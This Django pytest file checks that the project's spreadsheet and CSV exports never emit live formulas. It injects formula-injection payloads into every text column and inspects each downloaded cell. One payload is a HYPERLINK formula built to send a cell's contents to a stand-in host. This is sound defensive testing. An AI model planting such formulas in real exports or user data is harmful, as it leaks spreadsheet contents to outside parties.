"""Formula injection (issue 17): typed text never comes out of any export as a live formula.

The real demo is loaded once (its own transaction, rolled back after). For each payload a
spreadsheet program would evaluate — ``=HYPERLINK(…)``, ``+1+1``, ``-2+3``, ``@SUM(A1)``, a
leading tab — every text column of every row of the project's models is overwritten with it
(the machinery of ``test_stored_xss``), and every spreadsheet or CSV download the site offers
is fetched as the administrator for every record it is made of: no cell may be a formula
(openpyxl's ``data_type == "f"``), and the payloads must be found in the cells as text, which
proves the typed text really reached the export. The downloads are found from the URL
configuration, so a new export whose route is not listed here fails the test.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client

from danvan.testing.fixtures import signed_in

from .test_stored_xss import _text_columns

PAYLOADS = ['=HYPERLINK("http://x.invalid/?"&A1,"y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]


def _routes() -> set[str]:
    """The names of every route answering a spreadsheet or CSV download."""
    from django.urls import URLPattern, URLResolver, get_resolver

    names: set[str] = set()

    def walk(patterns: list[Any], namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern):
                route = str(pattern.pattern)
                if route.endswith((".xlsx", ".csv", ".xls", ".ods")):
                    names.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns, "")
    return names


def _urls() -> dict[str, list[str]]:
    """Every download URL, per route name, over the demo's records."""
    from django.urls import reverse

    from danvan.evaluation.models import Scheme
    from danvan.orgs.models import OrgUnit
    from danvan.plans.models import Plan
    from danvan.reporting.models import ReportForm, Submission
    from danvan.surveys.models import Questionnaire

    top = OrgUnit.objects.order_by("path").first()
    assert top is not None
    # Each form consolidated for the unit it is addressed to, in its latest reported period.
    latest = {
        (form, unit): period
        for form, unit, period in Submission.objects.values_list(
            "form_id", "form__recipient_id", "period"
        ).order_by("period")
    }
    consolidated = [
        reverse("reporting:xlsx", kwargs={"pk": form}) + f"?unit={unit}&period={period}"
        for (form, unit), period in latest.items()
    ]
    years = sorted(set(Scheme.objects.values_list("year", flat=True))) or [2026]
    return {
        "plans:export_xlsx": [
            reverse("plans:export_xlsx", kwargs={"pk": pk})
            for pk in Plan.objects.values_list("pk", flat=True)
        ],
        "exemplars:counts_xlsx": [
            reverse("exemplars:counts_xlsx") + f"?unit={top.pk}&year={year}" for year in years
        ],
        "reporting:xlsx": consolidated,
        "reporting:template": [
            reverse("reporting:template", kwargs={"pk": pk})
            for pk in ReportForm.objects.values_list("pk", flat=True)
        ],
        "evaluation:export_points": [
            reverse("evaluation:export_points", kwargs={"pk": pk})
            for pk in Scheme.objects.values_list("pk", flat=True)
        ],
        "surveys:export": [
            reverse("surveys:export", kwargs={"pk": pk})
            for pk in Questionnaire.objects.values_list("pk", flat=True)
        ],
        "petitions:statistics_xlsx": [
            reverse("petitions:statistics_xlsx") + "?from=2000-01-01&to=2100-12-31"
        ],
    }


def fill(text: str) -> int:
    """Every text column of every row starts with ``text`` (then the row id)."""
    from django.db import models
    from django.db.models import CharField, Value
    from django.db.models.functions import Cast, Concat

    columns = 0
    for model, field in _text_columns():
        if isinstance(field, models.URLField) or len(text) + 8 > (field.max_length or 10_000):
            continue
        value = Concat(Value(text), Cast("pk", CharField()), output_field=CharField())
        model._default_manager.update(**{field.name: value})
        columns += 1
    return columns


@pytest.fixture(scope="module")
def demo(django_db_setup, django_db_blocker) -> Iterator[int]:  # type: ignore[no-untyped-def]
    from django.db import transaction

    from danvan.accounts.models import User
    from danvan.core.demo.seed import seed_demo

    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            seed_demo()
            yield User.objects.get(username="admin").pk
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


def _cells(body: bytes, content_type: str) -> Iterator[tuple[str, Any, str]]:
    """(where, value, openpyxl data type) of every cell of a download."""
    if "csv" in content_type:
        for r, row in enumerate(csv.reader(io.StringIO(body.decode("utf-8-sig")))):
            for c, value in enumerate(row):
                yield f"{r + 1}:{c + 1}", value, "f" if value[:1] in "=+-@\t\r" else "s"
        return
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type


@pytest.mark.django_db
def test_no_export_carries_a_live_formula(demo: int) -> None:
    from danvan.accounts.models import User

    client: Client = signed_in(User.objects.get(pk=demo))
    urls = _urls()
    print("exports:", {name: len(addresses) for name, addresses in urls.items()})
    assert set(urls) == _routes(), "a download route is not exported by this test"
    formulas: list[str] = []
    reached: dict[str, int] = dict.fromkeys(urls, 0)
    fetched = 0
    for text in PAYLOADS:
        assert fill(text) > 100
        for name, addresses in urls.items():
            for url in addresses:
                response = client.get(url)
                assert response.status_code == 200, (url, response.status_code)
                fetched += 1
                for where, value, kind in _cells(response.content, response["Content-Type"]):
                    if kind == "f":
                        formulas.append(f"{url} {where}: {value!r}")
                    if isinstance(value, str) and value.startswith(text):
                        reached[name] += 1
    print(f"exports: {fetched} downloads, payload cells per route {reached}")
    assert all(urls.values()), f"a route has no record to export in the demo: {urls}"
    assert not formulas, f"{len(formulas)} live formulas:\n" + "\n".join(formulas[:40])
    assert all(reached.values()), f"typed text never reached these exports: {reached}"
